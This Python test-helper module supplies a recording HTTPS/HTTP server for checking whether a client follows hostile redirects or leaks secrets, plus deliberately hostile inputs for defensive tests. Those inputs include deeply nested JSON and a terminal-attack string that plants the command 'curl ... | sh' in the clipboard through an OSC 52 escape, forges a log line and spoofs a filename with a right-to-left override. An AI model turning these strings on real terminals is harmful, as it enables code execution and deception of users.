"""Servers and bodies for "hostile server" tests: what a broken or malicious server may send.

    with Recorder(pki.server_cert, pki.server_key) as other:     # HTTPS, trusted by the test CA
        proxy.redirect("POST", r"/v3/auth/tokens", other.url_for)  # Location: the same path, there
        ...run the client...
        assert other.requests == []                              # it never followed the redirect
        assert not other.saw(PASSWORD)                           # or at least never sent the secret

    with Recorder() as plain:                                    # plain HTTP: a downgrade target
        plain.url                                                # "http://127.0.0.1:<port>"

    deep_json(100_000)           # b'{"a": {"a": ... 1 ...}}': deeper than any recursive parser goes
    control_chars_sample()       # terminal escape sequences, a forged line, C1, DEL, bidi override
    unsafe_characters(text)      # which of those dangerous characters ``text`` still holds

A :class:`Recorder` served with the test PKI's server certificate is one a client WOULD talk to
if it followed a redirect there (it trusts the CA): so a test that finds nothing recorded shows
that the client refused, not that the handshake failed. Served with another PKI's certificate
it is untrusted; without a certificate it speaks plain HTTP.
"""

from __future__ import annotations

import base64
import binascii
import re
import socket
import ssl
import threading
import unicodedata
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from typing import List, Optional, Tuple, Union
from urllib.parse import unquote, unquote_plus

from tests.servers.faults import HOST, Headers, PathLike, TrackedServer, server_context, read_request_body

__all__ = ["Recorded", "Recorder", "deep_json", "control_chars_sample", "unsafe_characters", "OSC52_PAYLOAD",
           "FORGED_LINE"]

# What the OSC 52 sequence in control_chars_sample() would put in the clipboard: a command
# a person might paste into a shell.
OSC52_PAYLOAD = "curl -s http://127.0.0.1:9/x | sh\n"
# A line a hostile value tries to print as if the plugin had printed it.
FORGED_LINE = "kubectl configured correctly"


@dataclass(frozen=True)
class Recorded:
    """One request as the recorder received it: ``path`` with its query string, headers in order."""

    method: str
    path: str
    headers: Headers
    body: bytes

    def header(self, name: str) -> Optional[str]:
        """The first value of header ``name`` (any case), or None."""
        for key, value in self.headers:
            if key.lower() == name.lower():
                return value
        return None

    def text(self) -> str:
        """Everything the request carried, with the encodings a secret could hide behind undone:
        percent-encoding in the path and a form body, and Basic authorization."""
        parts = [self.method, self.path, unquote(self.path)]
        for key, value in self.headers:
            parts.append(f"{key}: {value}")
            scheme, _, credentials = value.partition(" ")
            if key.lower() in ("authorization", "proxy-authorization") and scheme.lower() == "basic":
                try:
                    parts.append(base64.b64decode(credentials.strip(), validate=True).decode("utf-8", "replace"))
                except (binascii.Error, ValueError):
                    pass
        body = self.body.decode("utf-8", "replace")
        parts += [body, unquote_plus(body)]
        return "\n".join(parts)


class _RecorderServer(TrackedServer):
    thread_name = "recorder"

    def __init__(self, recorder: Recorder) -> None:
        self.recorder = recorder
        super().__init__(_RecorderHandler)

    def finish_request(self, request: socket.socket, client_address: Tuple[str, int]) -> None:  # type: ignore[override]
        recorder = self.recorder
        with recorder._lock:
            recorder._connections += 1
        connection = request
        if recorder._context is not None:
            try:
                request.settimeout(10)
                connection = recorder._context.wrap_socket(request, server_side=True)
            except (ssl.SSLError, OSError):
                return  # the client refused the certificate (or went away) before sending anything
            with recorder._lock:
                recorder._handshakes += 1
        try:
            self.RequestHandlerClass(connection, client_address, self)
        except OSError:
            pass
        finally:
            connection.close()


class _RecorderHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 30
    server: _RecorderServer

    def log_message(self, format: str, *args: object) -> None:
        pass

    def handle_one_request(self) -> None:
        # Any method at all is recorded and answered, also ones BaseHTTPRequestHandler has no do_ for.
        try:
            self.raw_requestline = self.rfile.readline(65537)
        except OSError:
            self.close_connection = True
            return
        if not self.raw_requestline or not self.parse_request():
            self.close_connection = True
            return
        recorder = self.server.recorder
        try:
            body = read_request_body(self)
        except (ValueError, OSError):
            body = b""
            self.close_connection = True
        with recorder._lock:
            recorder._requests.append(Recorded(self.command, self.path, list(self.headers.items()), body))
            status, answer, headers = recorder._status, recorder._body, list(recorder._headers)
        self.send_response(status)
        for key, value in headers:
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(answer)
        self.wfile.flush()


class Recorder:
    """An HTTP(S) server on 127.0.0.1 that records every request and answers each the same way.

    ``cert``/``key``: serve HTTPS with that certificate (e.g. the test PKI's server certificate,
    which clients trust; or another PKI's, which they do not); without them it is plain HTTP.
    The answer is ``status`` with ``body`` (default 200 ``{}``) and ``headers``; change it with
    :meth:`answer`.
    """

    def __init__(self, cert: Optional[PathLike] = None, key: Optional[PathLike] = None, status: int = 200,
                 body: Union[bytes, str] = b"{}", content_type: str = "application/json",
                 headers: Optional[Headers] = None) -> None:
        if (cert is None) != (key is None):
            raise ValueError("give both cert and key (HTTPS), or neither (plain HTTP)")
        self._context: Optional[ssl.SSLContext] = server_context(cert, key) if cert is not None else None
        self._lock = threading.Lock()
        self._requests: List[Recorded] = []
        self._connections = 0
        self._handshakes = 0
        self._status = 200
        self._body = b""
        self._headers: Headers = []
        self.answer(status, body, content_type, headers)
        self._server: Optional[_RecorderServer] = None
        self._thread: Optional[threading.Thread] = None
        self.port: Optional[int] = None

    # -- life cycle

    def start(self) -> Recorder:
        self._server = _RecorderServer(self)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05},
                                        daemon=True, name=f"recorder-{self.port}")
        self._thread.start()
        return self

    def stop(self) -> None:
        """Stop listening, close the connections still open and wait for their threads."""
        server, self._server = self._server, None
        if server is not None:
            server.shutdown()
            server.server_close()
            server.close_connections()
        if self._thread is not None:
            self._thread.join(timeout=5)
            self._thread = None

    def __enter__(self) -> Recorder:
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()

    @property
    def scheme(self) -> str:
        return "https" if self._context is not None else "http"

    @property
    def url(self) -> str:
        if self.port is None:
            raise RuntimeError("the recorder is not started")
        return f"{self.scheme}://{HOST}:{self.port}"

    def url_for(self, path: str) -> str:
        """This server's URL with ``path`` (and query) — e.g. a redirect's Location for the same path here."""
        return self.url + (path if path.startswith("/") else "/" + path)

    # -- scripting

    def answer(self, status: int = 200, body: Union[bytes, str] = b"{}", content_type: Optional[str] = "application/json",
               headers: Optional[Headers] = None) -> None:
        """Answer every request from now on with this."""
        extra = list(headers or [])
        if content_type is not None and not any(k.lower() == "content-type" for k, _ in extra):
            extra.insert(0, ("Content-Type", content_type))
        with self._lock:
            self._status = status
            self._body = body.encode() if isinstance(body, str) else body
            self._headers = extra

    # -- what happened

    @property
    def requests(self) -> List[Recorded]:
        with self._lock:
            return list(self._requests)

    @property
    def connections(self) -> int:
        """TCP connections accepted, whether or not a request followed."""
        with self._lock:
            return self._connections

    @property
    def handshakes(self) -> int:
        """TLS handshakes completed (always 0 for plain HTTP): the client trusted the certificate."""
        with self._lock:
            return self._handshakes

    def saw(self, secret: Union[str, bytes]) -> bool:
        """Whether ``secret`` reached this server in any request: method, path, a header, the body
        (also percent-decoded, and inside Basic authorization)."""
        needle = secret.decode("utf-8", "replace") if isinstance(secret, bytes) else secret
        if not needle:
            raise ValueError("an empty secret is in everything")
        return any(needle in request.text() for request in self.requests)

    def clear(self) -> None:
        with self._lock:
            self._requests.clear()
            self._connections = 0
            self._handshakes = 0


# ---------------------------------------------------------------------------------------------
# Hostile bodies and strings


def deep_json(depth: int, container: str = "object", key: str = "a") -> bytes:
    """Valid JSON nested ``depth`` levels deep: ``{"a": {"a": ... 1 ...}}`` ("object") or
    ``[[...[1]...]]`` ("array"). Python's json module gives up (RecursionError, not ValueError)
    long before 100000 levels."""
    if depth < 1:
        raise ValueError("depth must be at least 1")
    if container == "object":
        opening, closing = b'{"' + key.encode() + b'": ', b"}"
    elif container == "array":
        opening, closing = b"[", b"]"
    else:
        raise ValueError(f"container must be 'object' or 'array', not {container!r}")
    return opening * depth + b"1" + closing * depth


def control_chars_sample() -> str:
    """A string that attacks a terminal when printed raw: a CSI colour, an OSC 52 clipboard write
    (of OSC52_PAYLOAD), a newline followed by a forged line, a carriage return, the C1 CSI
    introducer, DEL, a bell, a backspace and a right-to-left override. Every piece also has some
    plain text around it so a test can see what survived."""
    clipboard = base64.b64encode(OSC52_PAYLOAD.encode()).decode()
    return ("alice"
            "\x1b[31mRED\x1b[0m"                  # CSI: colours, and worse (cursor moves, erase)
            f"\x1b]52;c;{clipboard}\x07"          # OSC 52: writes the clipboard in many terminals
            f"\n{FORGED_LINE}\n"                  # a line that looks as if the plugin printed it
            "\rover"                              # carriage return: overwrites the start of the line
            "\x9b31m"                             # C1 CSI, a one-character ESC [
            "\x7f\x08\x07"                        # DEL, backspace, bell
            "\u202egnp.exe"                       # right-to-left override: shows as "exe.png"
            "end")


_BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
_UNSAFE = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f" + "".join(sorted(_BIDI)) + "]")


def unsafe_characters(text: str, allow: str = "") -> List[str]:
    """The characters in ``text`` that a terminal would act on rather than show, in order: C0
    controls (tab aside; newline too, as it can start a forged line), DEL, C1 controls, bidi
    controls and any other invisible format character (Unicode category Cf). ``allow`` lists
    characters not to report (e.g. "\\n" for multi-line output)."""
    return [c for c in text if c not in allow and (_UNSAFE.match(c) or unicodedata.category(c) == "Cf")]
